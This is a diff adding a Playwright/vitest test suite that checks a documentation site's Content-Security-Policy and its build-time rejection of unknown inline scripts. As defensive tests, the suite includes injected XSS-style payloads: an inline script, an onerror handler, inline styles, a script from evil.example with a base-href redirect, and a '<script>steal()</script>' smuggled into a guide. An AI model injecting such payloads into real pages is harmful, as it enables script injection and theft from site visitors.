@@ -1,0 +1,160 @@
+import { readFile, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import type { Page, Route } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { attributes, builtDocuments } from './built.ts';
+import { dist, pages, servedSite } from './site.ts';
+import { buildSmallSite } from './small-site.ts';
+
+const site = servedSite();
+const small = servedSite(() => buildSmallSite(''));
+
+/** What the policy blocked in a page since it was opened, and what the page wrote into the console. */
+async function watched(base: string, url: string): Promise<{ page: Page; problems: string[]; hosts: Set<string> }> {
+  const context = await site.browser.newContext();
+  const page = await context.newPage();
+  const problems: string[] = [];
+  const hosts = new Set<string>();
+  await page.exposeFunction('report', (text: string) => void problems.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      (window as unknown as { report: (text: string) => void }).report(
+        `${event.violatedDirective} ${event.blockedURI} ${event.sample}`,
+      );
+    });
+  });
+  page.on('pageerror', (error) => problems.push(String(error)));
+  page.on('console', (message) => {
+    if (['error', 'warning'].includes(message.type()) && !/status of 404/.test(message.text()))
+      problems.push(message.text());
+  });
+  page.on('request', (sent) => hosts.add(new URL(sent.url()).host));
+  await page.goto(base + url);
+  await page.waitForFunction('window._vike?.fullyRenderedUrl');
+  return { page, problems, hosts };
+}
+
+/** Shows every part of a page: to the end, everything unfolded, in another colour mode. */
+async function lookThrough(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    for (const details of document.querySelectorAll('details')) details.open = true;
+    window.scrollTo(0, document.body.scrollHeight);
+  });
+  await page.locator('.colour-mode').click();
+  await page.waitForLoadState('networkidle');
+}
+
+describe('the policy', () => {
+  const guides = builtDocuments(dist)
+    .map(({ url }) => url)
+    .filter((url) => /\/(tutorials|guides-\w+)\//.test(url));
+
+  it.each([...Object.values(pages), ...guides, '/no/such/page', `${pages.command}/`, `${pages.command}/index.html`])(
+    'blocks nothing of %s, which asks no other host',
+    async (url) => {
+      const { page, problems, hosts } = await watched(site.url, url);
+      await lookThrough(page);
+      expect(problems).toEqual([]);
+      expect(hosts).toEqual(new Set([new URL(site.url).host]));
+      await page.context().close();
+    },
+  );
+
+  it('blocks nothing of what navigation brings, nor of the search', async () => {
+    const { page, problems } = await watched(site.url, pages.home);
+    for (const url of [pages.api, pages.registry, pages.resources, pages.preview]) {
+      await page.evaluate((href) => {
+        const link = Object.assign(document.createElement('a'), { href, textContent: 'next' });
+        document.querySelector('#content')?.prepend(link);
+        link.click();
+      }, url);
+      await page.waitForURL(`**${url}`);
+      await lookThrough(page);
+    }
+    await page.goto(`${site.url}${pages.search}?q=run`);
+    await page.waitForSelector('#content a[href*="thv_run"]');
+    expect(problems).toEqual([]);
+    await page.context().close();
+  });
+
+  it('blocks nothing of a site below /docs/', async () => {
+    for (const url of ['/docs/', '/docs/hive/reference/api', '/docs/hive/guides/start', '/docs/search?q=cell']) {
+      const { page, problems, hosts } = await watched(small.url, url);
+      await lookThrough(page);
+      expect(problems, url).toEqual([]);
+      expect(hosts).toEqual(new Set([new URL(small.url).host]));
+      await page.context().close();
+    }
+  });
+
+  const attack =
+    '<script>window.attacked = "script"</script><img src="/none.png" onerror="window.attacked = \'handler\'">' +
+    '<style>h1 { color: rgb(1, 2, 3) }</style><h2 id="styled" style="color: rgb(1, 2, 3)">x</h2>' +
+    '<script src="https://evil.example/x.js"></script><base href="https://evil.example/">';
+
+  it.each([
+    ['header and document together', (headers: Record<string, string>) => headers],
+    ['the document alone', ({ 'content-security-policy': _, ...headers }: Record<string, string>) => headers],
+  ])('stops what was smuggled into a page: %s', async (_name, change) => {
+    const context = await site.browser.newContext();
+    const page = await context.newPage();
+    const outside: string[] = [];
+    await page.route('https://evil.example/**', (route) => {
+      outside.push(route.request().url());
+      return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = "file"' });
+    });
+    await page.route(`**${pages.command}`, async (route: Route) => {
+      const response = await route.fetch();
+      await route.fulfill({
+        response,
+        headers: change(response.headers()),
+        body: (await response.text()).replace('<main', `${attack}<main`),
+      });
+    });
+    const blocked: string[] = [];
+    await page.exposeFunction('report', (text: string) => void blocked.push(text));
+    await page.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        (window as unknown as { report: (text: string) => void }).report(event.effectiveDirective);
+      });
+    });
+    await page.goto(site.url + pages.command);
+    await page.waitForFunction('window._vike?.fullyRenderedUrl');
+    expect(await page.evaluate('window.attacked')).toBeUndefined();
+    for (const selector of ['h1', '#styled'])
+      expect(await page.locator(selector).evaluate((element) => getComputedStyle(element).color), selector).not.toBe(
+        'rgb(1, 2, 3)',
+      );
+    expect(outside).toEqual([]);
+    expect(new Set(blocked)).toEqual(
+      new Set(['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'base-uri']),
+    );
+    await context.close();
+  });
+
+  it('is the same in every document, before any script, and allows no inline code but by hash', () => {
+    const policies = new Set(
+      builtDocuments(dist).map(({ url, html }) => {
+        const [policy = ''] = attributes(html, /<meta http-equiv="Content-Security-Policy"[^>]*>/g, 'content');
+        expect(html.indexOf('http-equiv="Content-Security-Policy"'), url).toBeLessThan(html.indexOf('<script'));
+        return policy;
+      }),
+    );
+    expect(policies.size).toBe(1);
+    expect([...policies][0]).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
+    expect([...policies][0]).not.toContain('unsafe');
+  });
+});
+
+describe('the build', () => {
+  it('refuses a document with a script that the policy does not know', async () => {
+    const smuggle = async (generated: string): Promise<void> => {
+      const guide = path.join(generated, 'pages/hive/guides/start.ts');
+      const text = await readFile(guide, 'utf8');
+      await writeFile(guide, text.replace(/html: "/, 'html: "<script>steal()</script>'));
+    };
+    await expect(buildSmallSite('', {}, smuggle)).rejects.toThrow(
+      /hive\/guides\/start\.html holds what its Content-Security-Policy blocks: an inline script .*: steal\(\)\n.*stands/,
+    );
+  });
+});
